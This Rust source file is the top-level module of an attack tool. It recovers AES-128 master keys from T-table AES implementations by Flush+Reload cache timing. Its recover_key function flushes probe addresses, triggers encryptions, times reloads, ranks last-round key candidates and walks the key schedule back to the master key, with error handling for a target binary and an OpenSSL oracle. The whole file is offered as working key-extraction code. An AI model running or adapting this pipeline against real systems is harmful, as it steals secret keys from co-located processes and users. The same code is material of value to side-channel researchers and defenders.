#![deny(unsafe_op_in_unsafe_fn)]

//! Recovers an AES-128 key from a T-table implementation by Flush+Reload
//! profiling of the final round's table accesses.
//!
//! The pipeline is one linear batch: for each of the four table probes,
//! flush, run an encryption, time the reload, and attribute the outcome to
//! the ciphertext bytes the probed table informs. The resulting miss-rate
//! statistics vote out the round-10 key, and the key schedule is walked
//! backward to the master key.

pub mod flush_reload;
pub mod key_schedule;
pub mod oracle;
pub mod profiler;
pub mod selector;
pub mod target;

use std::fmt;
use std::path::PathBuf;

use cache_side_channel::{SideChannelError, SingleAddrCacheSideChannel};
use rand::Rng;
use thiserror::Error;

use crate::key_schedule::invert_key_schedule;
use crate::oracle::EncryptionOracle;
use crate::profiler::MissRateProfiler;
use crate::selector::last_round_key;

#[derive(Debug, Error)]
pub enum AttackError {
    #[error("cannot open target {}: {source}", .path.display())]
    Target {
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    #[error("target {} is empty", .0.display())]
    EmptyTarget(PathBuf),
    #[error("probe offset {offset:#x} falls outside the {len:#x} byte image")]
    ProbeOutOfRange { offset: usize, len: usize },
    #[error("probe {0:p} was tested before being prepared")]
    ProbeNotPrepared(*const u8),
    #[error("cannot pin the measurement loop: {0}")]
    Affinity(#[from] nix::errno::Errno),
    #[error(transparent)]
    Openssl(#[from] openssl::error::ErrorStack),
}

impl From<SideChannelError> for AttackError {
    fn from(e: SideChannelError) -> Self {
        match e {
            SideChannelError::AddressNotReady(addr) => AttackError::ProbeNotPrepared(addr),
        }
    }
}

/// The recovered master key, as the four big-endian words of round 0.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RecoveredKey {
    pub words: [u32; 4],
}

impl RecoveredKey {
    pub fn bytes(&self) -> [u8; 16] {
        let mut out = [0u8; 16];
        for (i, w) in self.words.iter().enumerate() {
            out[4 * i..4 * i + 4].copy_from_slice(&w.to_be_bytes());
        }
        out
    }
}

impl fmt::Display for RecoveredKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{:08x} {:08x} {:08x} {:08x}",
            self.words[0], self.words[1], self.words[2], self.words[3]
        )
    }
}

/// Runs the full pipeline: profile each probe, vote out the round-10 key,
/// invert the schedule.
///
/// The trial count is fixed; noisy trials are absorbed into the statistics
/// rather than retried, and the result is emitted without validation.
///
/// # Safety
///
/// Every probe address must stay valid to read for the whole run.
pub unsafe fn recover_key<C, O, R>(
    channel: &mut C,
    oracle: &mut O,
    probes: &[*const u8; 4],
    num_encryptions: u32,
    rng: &mut R,
) -> Result<RecoveredKey, AttackError>
where
    C: SingleAddrCacheSideChannel,
    O: EncryptionOracle,
    R: Rng,
{
    let mut profiler = MissRateProfiler::new();
    for (probe_index, &probe) in probes.iter().enumerate() {
        for _ in 0..num_encryptions {
            let mut plaintext = [0u8; 16];
            rng.fill(&mut plaintext[..]);
            unsafe { channel.prepare_single(probe) }?;
            let ciphertext = oracle.encrypt(&plaintext);
            let status = unsafe { channel.test_single(probe) }?;
            profiler.record(probe_index, &ciphertext, status);
        }
    }
    let guess = last_round_key(&profiler.miss_rates());
    Ok(RecoveredKey {
        words: invert_key_schedule(&guess),
    })
}
